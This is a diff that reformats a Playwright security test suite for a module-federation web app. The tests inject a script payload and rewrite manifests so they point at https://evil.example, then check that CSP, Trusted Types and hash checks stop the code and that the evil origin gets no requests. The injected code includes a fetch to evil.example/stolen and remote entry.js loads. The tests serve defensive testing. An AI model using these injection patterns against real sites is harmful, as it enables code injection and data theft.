@@ -8,7 +8,14 @@ const site = useSite();
 const EVIL = 'https://evil.example';
 const CODE = `globalThis.evil = true; fetch('${EVIL}/stolen').catch(() => undefined);`;
 const AWAY = 'দুঃখিত, এই অংশটি লোড করা যায়নি।';
-const options = { expects: [...EXPECTED, /Content Security Policy/, /TrustedScriptURL/, /policy violated: (script-src|require-trusted-types-for)/] };
+const options = {
+  expects: [
+    ...EXPECTED,
+    /Content Security Policy/,
+    /TrustedScriptURL/,
+    /policy violated: (script-src|require-trusted-types-for)/,
+  ],
+};
 
 /** No statement of a stranger has run, and no byte has gone to them. */
 async function nothingEvil({ page, fetched }: Visit) {
@@ -22,56 +29,99 @@ const changed = (change: (body: string) => string) => async (route: Route) => {
   await route.fulfill({ status: 200, headers: response.headers(), body: change(body) });
 };
 
-const barOf = (page: Page) => page.getByRole('alert').getByRole('button', { name: 'আবার চেষ্টা করুন' });
+const barOf = (page: Page) =>
+  page.getByRole('alert').getByRole('button', { name: 'আবার চেষ্টা করুন' });
 const inDashboard = (page: Page) => page.getByText(AWAY).first();
 
 it.each([
   ['P1: a remote entry', /\/remotes\/public\/static\/remoteEntry/],
   ['P2: an exposed module', /\/remotes\/public\/static\/__federation_expose_routes/],
   ['P2: the code of a screen', /\/remotes\/public\/static\/notice\./],
-])('%s whose bytes were changed is not run, the page stays, and the evil origin has 0 hits', async (_attack, files) => {
-  await site.visit(options, async (visit) => {
-    const { page } = visit;
-    await breakFiles(page, files, changed((body) => `${CODE}\n${body}`));
-    await page.goto('/notice', { waitUntil: 'commit' });
-    await barOf(page).waitFor();
-    await page.getByRole('link', { name: NEWEST_NOTICE }).first().waitFor();
-    await nothingEvil(visit);
-  });
-});
+])(
+  '%s whose bytes were changed is not run, the page stays, and the evil origin has 0 hits',
+  async (_attack, files) => {
+    await site.visit(options, async (visit) => {
+      const { page } = visit;
+      await breakFiles(
+        page,
+        files,
+        changed((body) => `${CODE}\n${body}`),
+      );
+      await page.goto('/notice', { waitUntil: 'commit' });
+      await barOf(page).waitFor();
+      await page.getByRole('link', { name: NEWEST_NOTICE }).first().waitFor();
+      await nothingEvil(visit);
+    });
+  },
+);
 
 const manifestAttacks: [string, (body: string) => string][] = [
-  ['P3: a manifest that names another origin for its files', (body) => body.replace(/"publicPath":\s*"auto"/, `"publicPath":"${EVIL}/"`)],
-  ['P3: a manifest that names an entry on another origin', (body) => body.replace(/"name":\s*"static\/remoteEntry[^"]*"/, `"name":"${EVIL}/entry.js"`)],
-  ['P4: a manifest that carries code for its address', (body) => body.replace(/"publicPath":\s*"auto"/, `"getPublicPath":${JSON.stringify(`${CODE} return '/'`)}`)],
+  [
+    'P3: a manifest that names another origin for its files',
+    (body) => body.replace(/"publicPath":\s*"auto"/, `"publicPath":"${EVIL}/"`),
+  ],
+  [
+    'P3: a manifest that names an entry on another origin',
+    (body) => body.replace(/"name":\s*"static\/remoteEntry[^"]*"/, `"name":"${EVIL}/entry.js"`),
+  ],
+  [
+    'P4: a manifest that carries code for its address',
+    (body) =>
+      body.replace(
+        /"publicPath":\s*"auto"/,
+        `"getPublicPath":${JSON.stringify(`${CODE} return '/'`)}`,
+      ),
+  ],
 ];
 
-it.each(manifestAttacks)('%s leads to nothing of theirs, the dashboard stands or says so, and the evil origin has 0 hits', async (_attack, change) => {
-  await site.visit(options, async (visit) => {
-    const { page } = visit;
-    await login(page);
-    await nameManifestsAlone(page);
-    await breakFiles(page, /\/remotes\/admin\/mf-manifest/, changed(change));
-    await page.goto('/dashboard', { waitUntil: 'commit' });
-    // A manifest that lies about what this shell does not read is harmless; any other leads to the message.
-    await page.getByRole('main').getByRole('heading', { level: 1 }).or(inDashboard(page)).first().waitFor();
-    await nothingEvil(visit);
-  });
-});
+it.each(manifestAttacks)(
+  '%s leads to nothing of theirs, the dashboard stands or says so, and the evil origin has 0 hits',
+  async (_attack, change) => {
+    await site.visit(options, async (visit) => {
+      const { page } = visit;
+      await login(page);
+      await nameManifestsAlone(page);
+      await breakFiles(page, /\/remotes\/admin\/mf-manifest/, changed(change));
+      await page.goto('/dashboard', { waitUntil: 'commit' });
+      // A manifest that lies about what this shell does not read is harmless; any other leads to the message.
+      await page
+        .getByRole('main')
+        .getByRole('heading', { level: 1 })
+        .or(inDashboard(page))
+        .first()
+        .waitFor();
+      await nothingEvil(visit);
+    });
+  },
+);
 
 it.each([
-  ['script', (body: string) => body.replace(/("admin_remote":.*?"script":")[^"]*/, `$1${EVIL}/entry.js`)],
-  ['file to be fetched ahead', (body: string) => body.replace(/("admin_remote":.*?"preload":\{")[^"]*/, `$1${EVIL}/routes.js`)],
-])('P3: a page that names a %s on another origin leads to nothing of theirs, the dashboard stands or says so, and the evil origin has 0 hits', async (_what, change) => {
-  await site.visit(options, async (visit) => {
-    const { page } = visit;
-    await login(page);
-    await breakFiles(page, /\/(remotes\.json|dashboard)$/, changed(change));
-    await page.goto('/dashboard', { waitUntil: 'commit' });
-    await page.getByRole('main').getByRole('heading', { level: 1 }).or(inDashboard(page)).first().waitFor();
-    await nothingEvil(visit);
-  });
-});
+  [
+    'script',
+    (body: string) => body.replace(/("admin_remote":.*?"script":")[^"]*/, `$1${EVIL}/entry.js`),
+  ],
+  [
+    'file to be fetched ahead',
+    (body: string) => body.replace(/("admin_remote":.*?"preload":\{")[^"]*/, `$1${EVIL}/routes.js`),
+  ],
+])(
+  'P3: a page that names a %s on another origin leads to nothing of theirs, the dashboard stands or says so, and the evil origin has 0 hits',
+  async (_what, change) => {
+    await site.visit(options, async (visit) => {
+      const { page } = visit;
+      await login(page);
+      await breakFiles(page, /\/(remotes\.json|dashboard)$/, changed(change));
+      await page.goto('/dashboard', { waitUntil: 'commit' });
+      await page
+        .getByRole('main')
+        .getByRole('heading', { level: 1 })
+        .or(inDashboard(page))
+        .first()
+        .waitFor();
+      await nothingEvil(visit);
+    });
+  },
+);
 
 it('P5: a remote entry that hangs is given up within five seconds, the dashboard says so, and the evil origin has 0 hits', async () => {
   await site.visit(options, async (visit) => {
@@ -102,11 +152,16 @@ it('P6: an entry of which no hash is known is not run, the dashboard says so, an
 });
 
 it('a journey fails where a page breaks the security policy of the site', async () => {
-  const visit = site.visit({ expects: [/Content Security Policy/, /Refused to/] }, async ({ page }) => {
-    await page.goto('/');
-    const told = page.waitForEvent('console', (message) => message.text().startsWith('policy violated'));
-    await page.evaluate((address) => void (new Image().src = address), `${EVIL}/pixel.png`);
-    await told;
-  });
+  const visit = site.visit(
+    { expects: [/Content Security Policy/, /Refused to/] },
+    async ({ page }) => {
+      await page.goto('/');
+      const told = page.waitForEvent('console', (message) =>
+        message.text().startsWith('policy violated'),
+      );
+      await page.evaluate((address) => void (new Image().src = address), `${EVIL}/pixel.png`);
+      await told;
+    },
+  );
   await expect(visit).rejects.toThrow(/policy violated: img-src https:\/\/evil\.example/);
 });
